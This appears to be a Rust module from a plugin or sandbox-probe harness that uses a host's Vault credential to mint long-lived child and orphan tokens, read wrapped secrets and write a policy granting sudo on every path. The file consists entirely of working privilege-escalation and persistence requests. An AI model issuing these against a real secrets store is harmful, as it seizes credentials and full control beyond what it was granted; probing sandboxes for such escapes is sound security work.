//! Uses the host's credential to make itself one of its own: a child token, a wrapped answer, a look at the token.

use forge_sdk::Error;
use forge_sdk::http::{self, Request};

use crate::{Loot, fetch, granted};

/// One of the ways by name.
pub(super) fn run(rest: &str) -> Loot {
    let json = |url: String, body: &str| http::post(url).body("application/json", body.as_bytes().to_vec());
    let request = match rest {
        "lookup-self" => http::get(granted("/v1/auth/token/lookup-self")?),
        "create" => json(granted("/v1/auth/token/create")?, r#"{"ttl":"768h"}"#),
        "create-orphan" => json(granted("/v1/auth/token/create-orphan")?, r#"{"ttl":"768h"}"#),
        "wrap" => json(granted("/v1/sys/wrapping/wrap")?, r#"{"a":"b"}"#),
        "wrapped-read" => http::get(granted("/v1/secret/data/app")?).header("x-vault-wrap-ttl", "600"),
        "renew-self" => json(granted("/v1/auth/token/renew-self")?, "{}"),
        "policy" => Request::new("PUT", granted("/v1/sys/policies/acl/everything")?)
            .body("application/json", br#"{"policy":"path \"*\" { capabilities = [\"sudo\"] }"}"#.to_vec()),
        _ => return Err(Error::invalid_request("no such way to a token")),
    };
    fetch(request)
}
